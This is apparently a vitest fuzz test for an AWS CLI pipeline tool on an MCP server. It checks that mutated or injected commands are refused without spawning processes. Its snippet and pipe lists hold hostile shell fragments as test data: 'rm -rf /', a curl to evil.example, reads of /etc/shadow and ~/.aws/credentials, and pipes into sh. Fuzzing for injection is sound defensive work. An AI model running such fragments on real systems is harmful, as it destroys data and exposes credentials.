import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createAwsSpy,
  createRandom,
  findStackTraces,
  listDescendants,
  now,
  resultText,
  startS3Environment,
  startStdioClient,
  waitFor,
} from '../bench/_lib.mjs';
import { profile } from './_profile.mjs';

const bucket = 'fuzz-bucket';

/** Realistic command lines: reads, writes, pipes, quoting, local paths. Mutations start from these. */
const corpus = [
  'aws s3 ls',
  `aws s3 ls s3://${bucket}`,
  `aws s3 ls s3://${bucket} --recursive | grep txt | head -n 3`,
  'aws s3api list-buckets --output json | jq -r ".Buckets[].Name"',
  `aws s3api list-objects-v2 --bucket ${bucket} --query "Contents[].Key" --output text`,
  `aws s3 cp s3://${bucket}/a.txt - | wc -c`,
  `aws s3 cp s3://${bucket}/a.txt local.txt`,
  `aws s3 cp local.txt s3://${bucket}/b.txt`,
  `aws s3 rm s3://${bucket}/a.txt`,
  `aws s3 rb s3://${bucket} --force`,
  'aws sts get-caller-identity',
  'aws ec2 describe-instances --query "Reservations[].Instances[].InstanceId" --output text',
  'aws iam delete-user --user-name alice',
  'aws dynamodb scan --table-name orders | jq ".Items | length"',
  'aws lambda invoke --function-name f --payload \'{"a":1}\' out.json',
  'aws secretsmanager get-secret-value --secret-id prod/db',
  'aws --region eu-west-1 --output table ec2 describe-regions',
  'aws logs tail /aws/lambda/f --since 1h | sort | uniq -c',
  'aws s3api put-object --bucket fuzz-bucket --key k --body local.txt --metadata \'{"x":"y"}\'',
  'aws cloudformation describe-stacks | jq -c ".Stacks[] | {StackName, StackStatus}"',
];

/** Fragments an attacker or a confused model might splice in. */
const snippets = [
  '; rm -rf /',
  ' && curl http://evil.example',
  ' || id',
  ' $(id)',
  ' `id`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
  ' ${HOME}',
  ' $HOME',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
  ' ${IFS}',
  ' > /etc/passwd',
  ' < /etc/shadow',
  ' 2>&1',
  ' &',
  ' | sh',
  ' | bash -c id',
  ' | xargs rm',
  ' | tee /tmp/pwned',
  ' | awk \'BEGIN{system("id")}\'',
  ' | sed -n e',
  ' | jq -n env',
  ' | python3 -c "print(1)"',
  ' --endpoint-url http://169.254.169.254/',
  ' --profile someone-else',
  ' --region mars-north-1',
  ' --cli-input-json file:///etc/passwd',
  ' file://../../etc/passwd',
  ' ../../../etc/passwd',
  ' ~/.aws/credentials',
  ' --debug',
  ' --no-verify-ssl',
  ' --ca-bundle /tmp/x',
  ' help',
  ' #comment',
  '\naws s3 rb s3://x',
  ' \u202ereversed',
  ' \u0000',
  ' \u001b[31m',
  ' \u200b',
  ' 😀',
  ' "unterminated',
  " 'unterminated",
  ' \\',
  ' *',
  ' ?',
  ' [a-z]',
  ' {a,b}',
  ' !!',
  ' AWS_PROFILE=x',
  'sudo ',
  'env ',
  'timeout 1 ',
  'exec ',
];

const alphabet =
  'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 -_./:=,"\'`$()[]{}<>|&;*?~#!\\@%^+\t\n\r\u0000\u007f\u00e9\u202e\u200b';

function randomString(random, maxLength) {
  let text = '';
  const length = random.integer(maxLength + 1);
  for (let index = 0; index < length; index += 1) text += alphabet[random.integer(alphabet.length)];
  return text;
}

function mutate(random, line) {
  let text = line;
  const steps = 1 + random.integer(3);
  for (let step = 0; step < steps; step += 1) {
    const at = random.integer(text.length + 1);
    switch (random.integer(8)) {
      case 0:
        text = text.slice(0, at) + alphabet[random.integer(alphabet.length)] + text.slice(at);
        break;
      case 1:
        text = text.slice(0, at) + text.slice(at + 1 + random.integer(4));
        break;
      case 2:
        text = text.slice(0, at) + random.pick(snippets) + text.slice(at);
        break;
      case 3:
        text += random.pick(snippets);
        break;
      case 4: {
        const words = text.split(' ');
        const left = random.integer(words.length);
        const right = random.integer(words.length);
        [words[left], words[right]] = [words[right], words[left]];
        text = words.join(' ');
        break;
      }
      case 5:
        text = text.slice(0, at);
        break;
      case 6:
        text = `${text} | ${random.pick(corpus).replace(/^aws /, '')}`;
        break;
      default:
        text = text.slice(0, at) + randomString(random, 12) + text.slice(at);
    }
  }
  return text;
}

function randomArgv(random) {
  const words = random.pick(corpus).split(' | ')[0].split(' ');
  const args = words.map((word) => (random.chance(0.15) ? mutate(random, word) : word));
  if (random.chance(0.3)) args.splice(random.integer(args.length + 1), 0, random.pick(snippets).trim());
  if (random.chance(0.05)) args.push('x'.repeat(5_000 + random.integer(20_000)));
  if (random.chance(0.05)) args.splice(random.integer(args.length + 1), 0, '');
  if (random.chance(0.1)) args[0] = random.pick(['sh', 'bash', '/usr/bin/aws', 'AWS', 'aws ', '', 'python3']);
  const pipe = [];
  const stages = random.integer(3);
  for (let stage = 0; stage < stages; stage += 1) {
    pipe.push(
      random.pick([
        ['jq', '.'],
        ['jq', '-n', 'env'],
        ['jq', '-r', '.Buckets[].Name'],
        ['grep', 'x'],
        ['grep', '-f', '/etc/passwd'],
        ['head', '-n', '1'],
        ['sort'],
        ['wc', '-l'],
        ['sh', '-c', 'id'],
        ['awk', 'BEGIN{system("id")}'],
        ['sed', 'e id'],
        ['tee', '/tmp/x'],
        ['xargs', 'rm'],
        [],
        [''],
        ['cat', '/etc/shadow'],
      ]),
    );
  }
  return random.chance(0.7) || pipe.length === 0 ? { args } : { args, pipe };
}

/** Arguments of the wrong shape: the schema must reject them without running anything. */
function randomMalformedArguments(random) {
  return random.pick([
    { command: 42 },
    { command: null },
    { command: ['aws', 's3', 'ls'] },
    { args: 'aws s3 ls' },
    { args: [1, 2, 3] },
    { args: ['aws', 's3', 'ls'], pipe: 'grep x' },
    { args: ['aws', 's3', 'ls'], pipe: [['grep', 1]] },
    { command: 'aws s3 ls', args: ['aws', 's3', 'ls'] },
    { command: 'aws s3 ls', timeout: -1 },
    { command: 'aws s3 ls', timeout: 1e12 },
    { command: 'aws s3 ls', maxOutput: 0 },
    { command: 'aws s3 ls', profile: randomString(random, 40) },
    { command: 'aws s3 ls', region: randomString(random, 20) },
    {},
    { unexpected: true },
    { command: { toString: 'aws s3 ls' } },
  ]);
}

function generateCase(random) {
  const kind = random.next();
  if (kind < 0.45) return { arguments: { command: mutate(random, random.pick(corpus)) } };
  if (kind < 0.65) return { arguments: { command: randomString(random, 200) } };
  if (kind < 0.72) return { arguments: { command: `aws ${randomString(random, 80)}` } };
  if (kind < 0.92) return { arguments: randomArgv(random) };
  return { arguments: randomMalformedArguments(random), malformed: true };
}

describe('fuzzing aws_cli_pipeline', () => {
  let environment;
  let server;
  let spy;

  beforeAll(async () => {
    environment = await startS3Environment();
    spy = await createAwsSpy({
      directory: join(environment.workdir, '.spy-bin'),
      logFile: join(environment.workdir, '.spy-calls.log'),
    });
    // The spy and its log live outside the sandbox's view (private /tmp and home), so the commands run unconfined
    // here; refusals happen before any sandbox is chosen, which is what this file proves.
    server = await startStdioClient({
      env: {
        ...environment.env,
        PATH: spy.path,
        AWS_MCP_MODE: 'read-only',
        AWS_MCP_SANDBOX: 'disabled',
        AWS_MAX_ATTEMPTS: '1',
      },
    });
  });

  afterAll(async () => {
    await server?.close();
    await environment?.stop();
  });

  it(`runs ${profile.fuzzCases} seeded cases (seed ${profile.seed}): no crash, no stack trace, no process for a refused command`, async () => {
    // The CLI check at start runs `aws --version` through the spy; count from after it.
    await waitFor(async () => (await spy.readCalls()).length > 0, { timeoutMs: 10_000 });
    await waitFor(async () => (await listDescendants(server.pid)).length === 0, { timeoutMs: 10_000 });
    const random = createRandom(profile.seed);
    const tally = { refused: 0, ran: 0, rejectedBySchema: 0, statuses: {} };
    const leaks = [];
    const samples = {};
    let calls = (await spy.readCalls()).length;
    const started = now();
    for (let index = 0; index < profile.fuzzCases; index += 1) {
      const fuzzCase = generateCase(random);
      let result;
      try {
        result = await server.client.callTool({
          name: 'aws_cli_pipeline',
          arguments: { ...fuzzCase.arguments, timeout: fuzzCase.arguments.timeout ?? 20 },
        });
      } catch (error) {
        // Invalid arguments may come back as a JSON-RPC error instead of a tool result; both are fine.
        expect(String(error), JSON.stringify(fuzzCase)).toMatch(
          /MCP error -32602|Invalid arguments|invalid/i,
        );
        tally.rejectedBySchema += 1;
      }
      const after = (await spy.readCalls()).length;
      const spawned = after - calls;
      calls = after;
      if (result === undefined) {
        if (spawned !== 0) leaks.push({ index, fuzzCase, spawned });
        continue;
      }
      // Arguments the schema rejects come back as an error result without structured content.
      const status = result.structuredContent?.status ?? (result.isError ? 'invalid-arguments' : 'no-status');
      tally.statuses[status] = (tally.statuses[status] ?? 0) + 1;
      samples[status] ??= resultText(result).slice(0, 160);
      if (status === 'invalid-arguments') tally.rejectedBySchema += 1;
      if (status === 'refused' || status === 'invalid-arguments') {
        tally.refused += 1;
        if (spawned !== 0) leaks.push({ index, fuzzCase, spawned, text: resultText(result).slice(0, 200) });
      } else {
        tally.ran += 1;
      }
    }
    console.log(
      `fuzz: ${profile.fuzzCases} cases in ${Math.round((now() - started) / 1000)} s (seed ${profile.seed}): ${JSON.stringify(tally)}; aws processes seen by the spy: ${calls}`,
    );
    console.log(`fuzz: a sample answer per status: ${JSON.stringify(samples, null, 2)}`);
    expect(leaks).toEqual([]);
    expect(tally.refused).toBeGreaterThan(profile.fuzzCases / 2);
    const { tools } = await server.client.listTools();
    expect(tools).toHaveLength(3);
    expect(() => process.kill(server.pid, 0)).not.toThrow();
    expect(findStackTraces(server.stderr())).toEqual([]);
    expect(await waitFor(async () => (await listDescendants(server.pid)).length === 0)).toBe(true);
  });
});
